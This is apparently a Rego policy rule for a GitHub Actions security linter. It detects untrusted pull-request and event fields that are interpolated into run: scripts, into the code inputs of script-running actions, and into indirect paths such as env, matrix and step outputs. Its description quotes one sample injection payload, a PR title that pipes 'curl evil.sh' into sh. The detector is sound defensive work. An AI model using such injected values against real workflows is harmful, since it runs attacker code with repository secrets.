# METADATA
# title: "No untrusted event data interpolated into run: scripts"
# description: >-
#   `${{ }}` expressions are pasted into the script before the shell runs it, so a pull
#   request title such as `"; curl evil.sh | sh #` becomes code running with the job's
#   token and secrets. Checked: `run:` scripts and the code inputs of script-running
#   actions (`actions/github-script` `script`, `azure/cli` and `azure/powershell`
#   `inlineScript`, `mikefarah/yq` `cmd`, `jannekem/run-python-script-action` and
#   `amadevus/pwsh-script` `script`, `appleboy/ssh-action` `script`,
#   `addnab/docker-run-action` `run`, `cardinalby/js-eval-action` `expression`, and the
#   `tibdex/backport` bot's `title_template`/`body_template`, which it renders as
#   JavaScript templates), for the fields
#   GitHub's hardening guide lists as untrusted (titles, bodies, comments, head branch
#   names, commit messages and authors, page names) and their equivalents in
#   `workflow_run`/`check_suite` events, including `toJSON(github.event)`; and the same
#   data one step removed: `${{ env.X }}` where the `env:` the step sees sets X from
#   such a field, `${{ matrix.X }}` where the matrix is built from one,
#   `${{ steps.S.outputs.Y }}` where step S of the same job takes one in, and a
#   composite action's `${{ inputs.X }}` (its callers decide what it holds). A test on a
#   field (`contains(...)`, `==`, the left of `&&`) yields only true or false and is not
#   reported; values that cannot carry shell syntax (numbers, SHAs, ids) are not listed.
#   Values passed through `env:` and read as `"$X"` are not reported: that is the fix.
# custom:
#   id: PE-WF-006
#   severity: critical
#   kinds: [workflow, action]
#   source: "seed 003 (security)"
#   remediation: >-
#     Pass the value through an environment variable and quote it in the script:
#     `env: {TITLE: ${{ github.event.pull_request.title }}}` then `echo "$TITLE"`.
package pe.workflow.untrusted_input

import data.pe.workflow.lib.pipeline
import data.pe.workflow.lib.steps
import data.pe.workflow.lib.steps.expressions
import data.pe.workflow.lib.untrusted
import rego.v1

# Actions whose input is code: action -> input -> how messages name it.
code_inputs := {
	"actions/github-script": {"script": "github-script `script:`"},
	"azure/cli": {"inlinescript": "azure/cli `inlineScript:`"},
	"azure/powershell": {"inlinescript": "azure/powershell `inlineScript:`"},
	"mikefarah/yq": {"cmd": "yq `cmd:`"},
	"jannekem/run-python-script-action": {"script": "run-python-script `script:`"},
	"amadevus/pwsh-script": {"script": "pwsh-script `script:`"},
	"appleboy/ssh-action": {"script": "ssh-action `script:`"},
	"addnab/docker-run-action": {"run": "docker-run-action `run:`"},
	"cardinalby/js-eval-action": {"expression": "js-eval-action `expression:`"},
	# the backport bot renders these as lodash templates: `<%= %>` in them is JavaScript
	"tibdex/backport": {"title_template": "backport `title_template:`", "body_template": "backport `body_template:`"},
}

# expressions pasted into code: where messages say they are
scripts contains [e, "`run:` script"] if {
	some e in expressions
	e.scope == "step"
	e.where == "run"
}

scripts contains [e, where] if {
	some e in expressions
	e.scope == "step"
	e.where == "with"
	is_string(e.name)
	name := lower(e.name)
	name in code_input_names # (most inputs are not code: the step's action is not read for them)
	where := code_inputs[steps.action_name(steps.step_of(e).uses)][name]
}

# every input named in code_inputs, whatever the action
code_input_names contains name if {
	some inputs in code_inputs
	some name, _ in inputs
}

deny contains {"msg": message(field, where), "path": e.path, "snippet": e.text} if {
	some [e, where] in scripts
	some field in untrusted.flowing_fields(e)
}

deny contains {"msg": message(field, where), "path": e.path, "snippet": e.text} if {
	some [e, where] in scripts
	some ctx in e.contexts
	ctx.flows
	field := indirect(e, ctx)
}

message(field, where) := sprintf(
	"untrusted %s is expanded into a %s: pass it through `env:` and reference the variable instead",
	[field, where],
)

# ------------------------------------------------------------- one step removed

# The cases, one `else` chain (exclusive by the context's first part; regorus evaluates
# every body of a function on each call):
#   `env.X`: the `env:` the step sees (step, else job, else workflow) sets X from untrusted data;
#   `matrix.X`: the job's matrix (or that entry of it) is built from untrusted data;
#   `steps.S.outputs.Y`: step S of the same job, before this one, takes untrusted data in;
#   `inputs.X` in a composite action: whoever calls the action decides what X holds.
indirect(e, ctx) := sprintf("`%s` (set from %s)", [ctx.path, concat(", ", sort(fields))]) if {
	ctx.parts[0] == "env"
	count(ctx.parts) == 2
	fields := env_fields(e, lower(ctx.parts[1]))
	count(fields) > 0
} else := sprintf("`%s` (built from %s)", [ctx.path, concat(", ", sort(fields))]) if {
	ctx.parts[0] == "matrix"
	fields := matrix_fields(e, lower(ctx.parts[1]))
	count(fields) > 0
} else := sprintf("`%s` (step '%s' takes in %s)", [ctx.path, ctx.parts[1], concat(", ", sort(fields))]) if {
	ctx.parts[0] == "steps"
	ctx.parts[2] == "outputs"
	some i, step in job_steps(e)
	lower(pipeline.text(step.id)) == ctx.parts[1]
	fields := step_fields(e.job, i)
	count(fields) > 0
} else := sprintf("`%s` (an input of this composite action: callers may pass event data)", [ctx.path]) if {
	ctx.parts[0] == "inputs"
	input.runs.using == "composite"
}

# the untrusted fields the matrix entry `entry` of the job of expression `e` is built from
matrix_fields(e, entry) := {f |
	some m in expressions
	m.job == e.job
	m.where == "matrix"
	matrix_entry(m.key_path, entry)
	some f in untrusted.flowing_fields(m)
}

# the untrusted fields step `i` of job `job` takes in
step_fields(job, i) := {f |
	some s in expressions
	s.job == job
	s.step == i
	some f in untrusted.flowing_fields(s)
}

job_steps(e) := input.jobs[e.job].steps if {
	is_string(e.job)
} else := input.runs.steps

# the untrusted fields the env variable `name` gets in the scope of expression `e`
env_fields(e, name) := {f |
	some d in steps.env_definitions(e, name)
	some f in untrusted.flowing_fields(d)
}

# a matrix expression at key path `key_path` feeds `matrix.<entry>`
matrix_entry(key_path, _) if count(key_path) <= 2 # the whole matrix: `matrix: ${{ fromJSON(...) }}`

matrix_entry(key_path, entry) if lower(key_path[2]) == entry

matrix_entry(key_path, entry) if {
	key_path[2] in {"include", "exclude"}
	lower(key_path[4]) == entry
}
